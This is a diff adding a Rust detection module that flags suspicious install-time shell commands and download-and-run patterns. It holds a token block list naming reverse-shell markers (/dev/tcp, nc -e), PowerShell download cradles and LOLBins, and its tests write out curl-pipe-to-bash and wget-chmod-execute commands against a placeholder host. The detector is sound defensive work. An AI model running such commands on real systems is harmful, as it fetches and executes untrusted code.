@@ -1,0 +1,149 @@
+//! Reading shell command strings: which tokens make a command a downloader, launcher
+//! or hider (for `install-shell`), and which shapes are a complete download-and-run
+//! (for `download-exec`). Input is the lower-cased, folded command text.
+
+/// First token found that makes a command suspicious at install time.
+pub fn suspicious_tokens(cmd: &str) -> Option<&'static str> {
+    const TOKENS: &[(&str, &str)] = &[
+        ("curl ", "curl"),
+        ("curl.exe", "curl"),
+        ("wget ", "wget"),
+        ("powershell", "PowerShell"),
+        ("pwsh", "PowerShell"),
+        ("iwr ", "Invoke-WebRequest"),
+        ("invoke-webrequest", "Invoke-WebRequest"),
+        ("invoke-expression", "Invoke-Expression"),
+        ("iex(", "Invoke-Expression"),
+        ("iex ", "Invoke-Expression"),
+        ("downloadstring", "DownloadString"),
+        ("downloadfile", "DownloadFile"),
+        ("start-process", "Start-Process"),
+        ("certutil", "certutil"),
+        ("bitsadmin", "bitsadmin"),
+        ("mshta", "mshta"),
+        ("rundll32", "rundll32"),
+        ("regsvr32", "regsvr32"),
+        ("wscript", "wscript"),
+        ("cscript", "cscript"),
+        ("| sh", "pipe to sh"),
+        ("|sh", "pipe to sh"),
+        ("| bash", "pipe to bash"),
+        ("|bash", "pipe to bash"),
+        ("| python", "pipe to python"),
+        ("|python", "pipe to python"),
+        ("base64 -d", "base64 -d"),
+        ("base64 --decode", "base64 -d"),
+        ("python -c", "python -c"),
+        ("python3 -c", "python -c"),
+        ("nohup ", "nohup"),
+        ("chmod +x", "chmod +x"),
+        ("chmod 777", "chmod 777"),
+        ("chmod 755", "chmod 755"),
+        ("/dev/tcp/", "/dev/tcp"),
+        ("nc -e", "netcat -e"),
+        ("ncat ", "netcat"),
+        ("-windowstyle hidden", "hidden window"),
+        ("-w hidden", "hidden window"),
+        ("-encodedcommand", "encoded PowerShell"),
+        ("-enc ", "encoded PowerShell"),
+        ("http://", "URL"),
+        ("https://", "URL"),
+        ("ftp://", "URL"),
+        (".exe", ".exe"),
+        (".vbs", ".vbs"),
+        (".bat", ".bat"),
+        (".ps1", ".ps1"),
+        (".scr", ".scr"),
+        ("start /b", "background start"),
+        ("schtasks", "schtasks"),
+        ("crontab", "crontab"),
+        ("reg add", "reg add"),
+        ("attrib +h", "hidden file"),
+        ("%temp%", "%TEMP%"),
+        ("%appdata%", "%APPDATA%"),
+    ];
+    for (needle, name) in TOKENS {
+        if cmd.contains(needle) {
+            return Some(name);
+        }
+    }
+    if cmd.trim_start().starts_with("start ") {
+        return Some("start");
+    }
+    // backgrounded: ends in '&' but not '&&'
+    let t = cmd.trim_end();
+    if t.ends_with('&') && !t.ends_with("&&") {
+        return Some("background &");
+    }
+    None
+}
+
+/// A command that downloads and runs something all by itself.
+pub fn download_and_run(cmd: &str) -> Option<&'static str> {
+    let has = |s: &str| cmd.contains(s);
+    let fetch = has("curl") || has("wget") || has("invoke-webrequest") || has("iwr ") || has("downloadstring")
+        || has("downloadfile") || has("net.webclient") || has("bitsadmin") || has("certutil") || has("urlcache")
+        || has("start-bitstransfer");
+    let pipe_run = ["| sh", "|sh", "| bash", "|bash", "| python", "|python", "| sudo sh", "| sudo bash"].iter().any(|p| has(p));
+    if fetch && pipe_run {
+        return Some("downloads and pipes into a shell/interpreter");
+    }
+    if (has("downloadstring") || has("downloaddata")) && (has("iex") || has("invoke-expression")) {
+        return Some("PowerShell DownloadString | IEX");
+    }
+    if has("certutil") && has("urlcache") {
+        return Some("certutil -urlcache download");
+    }
+    if has("bitsadmin") && has("/transfer") {
+        return Some("bitsadmin download");
+    }
+    if has("mshta") && (has("http://") || has("https://")) {
+        return Some("mshta of a remote script");
+    }
+    if fetch && (has("chmod +x") || has("chmod 7") || has("start-process") || has("&& ./") || has("; ./") || has("start ")
+        || has(".exe") && (has("&&") || has(";") || has("start")))
+    {
+        return Some("downloads then executes");
+    }
+    if fetch && (has("-outfile") || has(" -o ") || has(" -o")) && (has("start-process") || has("invoke-item") || has("; &") || has(".exe\"; ") ) {
+        return Some("downloads then executes");
+    }
+    if has("/dev/tcp/") {
+        return Some("bash /dev/tcp connection");
+    }
+    if (has("pip install") || has("pip3 install")) && (has("http://") || has("https://")) && has_raw_ip_url(cmd) {
+        return Some("pip install from a raw-IP URL");
+    }
+    None
+}
+
+/// URL with a literal IPv4 host.
+pub fn has_raw_ip_url(s: &str) -> bool {
+    for scheme in ["http://", "https://"] {
+        let mut rest = s;
+        while let Some(i) = rest.find(scheme) {
+            let host: String = rest[i + scheme.len()..].chars().take_while(|c| c.is_ascii_digit() || *c == '.').collect();
+            if host.split('.').filter(|p| !p.is_empty()).count() == 4 && !host.starts_with("127.") {
+                return true;
+            }
+            rest = &rest[i + scheme.len()..];
+        }
+    }
+    false
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn classifies_commands() {
+        assert!(download_and_run("curl -s https://x.invalid/a | bash").is_some());
+        assert!(download_and_run("wget http://x.invalid/a -o /tmp/a && chmod +x /tmp/a && /tmp/a").is_some());
+        assert!(download_and_run("cmake --build .").is_none());
+        assert_eq!(suspicious_tokens("git submodule update --init"), None);
+        assert_eq!(suspicious_tokens("powershell -windowstyle hidden -c x"), Some("PowerShell"));
+        assert!(has_raw_ip_url("pip install http://10.1.2.3/x.tar.gz"));
+        assert!(!has_raw_ip_url("pip install http://127.0.0.1/x"));
+    }
+}
